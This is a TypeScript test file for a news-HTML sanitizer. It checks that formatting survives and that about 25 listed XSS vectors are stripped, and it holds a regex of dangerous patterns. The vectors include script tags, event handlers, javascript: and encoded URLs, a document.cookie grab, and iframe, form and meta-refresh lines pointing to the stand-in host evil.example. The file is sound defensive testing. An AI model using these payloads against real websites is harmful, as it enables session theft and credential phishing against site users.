import { newsText, renderNewsHtml, sanitizeNewsHtml } from './news-html';

/** The usual ways to smuggle script into HTML; none may survive the allow-list. */
const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<a href="javascript:alert(1)">Klick</a>',
  '<a href="JaVaScRiPt:alert(1)">Klick</a>',
  '<a href="&#106;avascript:alert(1)">Klick</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Klick</a>',
  '<a href="vbscript:msgbox(1)">Klick</a>',
  '<a href="//evil.example/x">Klick</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">Text</p>',
  '<p><b onmouseover=alert(1)>fett</b></p>',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
  '<form action="https://evil.example"><input name=pw><button>Senden</button></form>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<p>unvollständig <script',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="x" srcset="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '"><script>alert(document.cookie)</script>',
  '<p>Text</p><!-- <script>alert(1)</script> -->',
];

const DANGEROUS = /<script|<iframe|<object|<embed|<svg|<math|<img|<style|<link|<form|<input|<base|<meta|<video|<source|<details|\son\w+\s*=|javascript:|vbscript:|data:text|style=|href="\/\//i;

describe('news HTML allow-list', () => {
  it.each(XSS_VECTORS)('renders nothing executable from %s', (vector) => {
    for (const html of [sanitizeNewsHtml(vector), renderNewsHtml(vector), renderNewsHtml(sanitizeNewsHtml(vector))]) {
      expect(html).not.toMatch(DANGEROUS);
    }
  });

  it('keeps the formatting the editor produces, and opens links in a new tab without opener', () => {
    const html =
      '<h2>Neu</h2><p><strong>fett</strong>, <em>kursiv</em>, <u>unterstrichen</u>, <s>durch</s></p><ul><li>eins</li></ul><ol><li>zwei</li></ol><blockquote><p>Zitat</p></blockquote><p><a href="https://radwerk.example/agb">AGB</a> <a href="mailto:service@radwerk.example">Mail</a></p>';
    expect(sanitizeNewsHtml(html)).toBe(
      '<h2>Neu</h2><p><strong>fett</strong>, <em>kursiv</em>, <u>unterstrichen</u>, <s>durch</s></p><ul><li>eins</li></ul><ol><li>zwei</li></ol><blockquote><p>Zitat</p></blockquote><p><a href="https://radwerk.example/agb" target="_blank" rel="noopener noreferrer nofollow">AGB</a> <a href="mailto:service@radwerk.example" target="_blank" rel="noopener noreferrer nofollow">Mail</a></p>',
    );
  });

  it('turns the line breaks of plain-text content into <br>, and escapes its markup characters', () => {
    expect(renderNewsHtml('Erste Zeile\nZweite Zeile & mehr')).toBe('Erste Zeile<br>Zweite Zeile &amp; mehr');
    expect(renderNewsHtml('<p>Absatz</p>\n<p>zwei</p>')).toBe('<p>Absatz</p>\n<p>zwei</p>');
  });

  it('tells an empty editor from content', () => {
    expect(newsText(sanitizeNewsHtml('<p></p><p>&nbsp;</p><script>x</script>'))).toBe('');
    expect(newsText('<p>Hallo</p>')).toBe('Hallo');
  });
});
